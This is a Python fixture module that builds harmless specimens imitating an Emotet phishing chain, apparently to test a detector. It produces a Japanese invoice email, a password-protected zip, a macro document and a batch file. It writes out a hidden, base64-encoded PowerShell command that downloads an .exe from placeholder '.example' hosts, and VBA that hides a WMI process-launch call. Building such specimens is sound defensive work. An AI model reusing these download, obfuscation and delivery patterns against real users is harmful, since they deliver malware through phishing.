"""Benign specimens, built by our own code: they have the shape of the Emotet chain and only reserved names.

Nothing here is malware or was taken from any. The documents hold VBA source without compiled code, so that
Word itself would refuse to run them, and every address is reserved (``.example``).
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from email.message import EmailMessage
from typing import Final

import pyzipper

PASSWORD: Final = "Tanabata-0707"  # noqa: S105 - of a benign archive
URLS: Final = ("http://one.example/wp/a/", "http://two.example/b/", "http://three.example/c/")
SCRIPT: Final = (
    "$u='" + "@".join(URLS) + "'.Split('@');foreach($x in $u){try{(New-Object Net.WebClient)"
    ".DownloadFile($x,$env:TEMP+'\\284.exe');break}catch{}}"
)
COMMAND: Final = "powershell -w hidden -e " + base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
MACRO: Final = 'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n  x = "請求書"\r\nEnd Sub\r\n'


def literal_container(raw: bytes) -> bytes:
    """MS-OVBA 2.4.1 compression by literal tokens only, in chunks that fit."""
    out = bytearray(b"\x01")
    for at in range(0, len(raw), 3_600):
        part = raw[at : at + 3_600]
        body = b"".join(b"\0" + part[i : i + 8] for i in range(0, len(part), 8))
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return bytes(out)


def _record(identifier: int, value: bytes) -> bytes:
    return struct.pack("<HI", identifier, len(value)) + value


def vba_directory(name: str) -> bytes:
    """A ``dir`` stream with code page 932, the version and one module at offset 0."""
    version = struct.pack("<HIIH", 0x09, 4, 1, 1)
    module = _record(0x19, name.encode()) + _record(0x1A, name.encode())
    module += (
        _record(0x32, name.encode("utf-16-le")) + _record(0x31, struct.pack("<I", 0)) + _record(0x2B, b"")
    )
    return _record(0x03, struct.pack("<H", 932)) + version + module + _record(0x10, b"")


def compound_file(streams: dict[str, bytes], storage: str = "VBA") -> bytes:
    """A compound file (MS-CFB, version 3) with one storage; streams of 4,096 bytes or more."""
    sectors: list[bytes] = []
    chains: list[int] = []
    entries = [("Root Entry", 5, 1, 0xFFFFFFFE, 0), (storage, 1, 2, 0, 0)]
    for name, content in streams.items():
        padded = content.ljust(max(4_096, -(-len(content) // 512) * 512), b"\0")
        begin = len(sectors)
        sectors += [padded[at : at + 512] for at in range(0, len(padded), 512)]
        chains += [*range(begin + 1, len(sectors)), 0xFFFFFFFE]
        entries.append((name, 2, 0xFFFFFFFF, begin, len(padded)))
    first = len(sectors)
    table = b"".join(_entry(at, entry, len(entries)) for at, entry in enumerate(entries))
    table = table.ljust(-(-len(table) // 512) * 512, b"\0")
    sectors += [table[at : at + 512] for at in range(0, len(table), 512)]
    chains += [*range(first + 1, len(sectors)), 0xFFFFFFFE]
    fats = 1
    while fats * 128 < len(sectors) + fats:
        fats += 1
    numbers = [len(sectors) + at for at in range(fats)]
    chains += [0xFFFFFFFD] * fats
    chains += [0xFFFFFFFF] * (fats * 128 - len(chains))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    head += bytes(6) + struct.pack("<IIIIIIIII", 0, fats, first, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<109I", *numbers, *[0xFFFFFFFF] * (109 - fats))
    return head + b"".join(sectors) + struct.pack(f"<{len(chains)}I", *chains)


def _entry(at: int, entry: tuple[str, int, int, int, int], count: int) -> bytes:
    name, kind, child, begin, size = entry
    wide = name.encode("utf-16-le") + b"\0\0"
    right = at + 1 if kind == 2 and at + 1 < count else 0xFFFFFFFF
    return (
        wide.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(wide), kind, 1, 0xFFFFFFFF, right, child)
        + bytes(36)
        + struct.pack("<IQ", begin, size)
    )


def ole_document(macro: str = MACRO) -> bytes:
    """A compound file with a macro project of one module."""
    compressed = literal_container(macro.encode("cp932"))
    return compound_file(
        {"dir": literal_container(vba_directory("ThisDocument")), "ThisDocument": compressed}
    )


def docm(macro: str = MACRO) -> bytes:
    """An OOXML document with that project and a template outside."""
    relation = (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://template.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/_rels/settings.xml.rels", relation)
        archive.writestr("word/vbaProject.bin", ole_document(macro))
    return out.getvalue()


def aes_zip(members: dict[str, bytes], password: str = PASSWORD) -> bytes:
    """A zip whose members are under AES."""
    out = io.BytesIO()
    with pyzipper.AESZipFile(
        out, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
    ) as archive:
        archive.setpassword(password.encode())
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def mail(text: str, attachments: dict[str, bytes], charset: str = "utf-8") -> bytes:
    """A Japanese mail with attachments."""
    message = EmailMessage()
    message["Subject"] = "請求書の件"
    message["From"] = "経理部 <keiri@partner.example>"
    message["To"] = "user@corp.example"
    message["Date"] = "Wed, 22 Jul 2020 10:00:00 +0900"
    message.set_content(text, charset=charset)
    for name, content in attachments.items():
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def chain() -> bytes:
    """Mail → zip with password in the text → document, batch file → command → script → three URLs."""
    batch = f"@echo off\r\n{COMMAND}\r\n".encode()
    archive = aes_zip({"請求書.docm": docm(), "open.bat": batch})
    return mail(
        f"お世話になっております。\r\n解凍パスワードは {PASSWORD} です。\r\n", {"請求書.zip": archive}
    )


def marked(text: str, marker: str = "][") -> str:
    """The text with a marker between its parts, as the form of the chain holds it."""
    return marker.join(text[at : at + 3] for at in range(0, len(text), 3))


CALLER: Final = "Sub Document_Open()\r\nJf83\r\nEnd Sub\r\n"
WORKER: Final = """Function Jf83()
On Error Resume Next
GoTo Kx1
Set Q = Zz.OpenTextFile("C:\\junk.txt")
Kx1:
a = Join(Split(UserForm1.TextBox1.Text, "]["), "")
m = "wi][nm][gm][ts][:w][in][32][_p][ro][ce][ss"
Set o = GetObject(Join(Split(m, "]["), ""))
o.Create a, Nope, Nope, Pid
End Function
"""
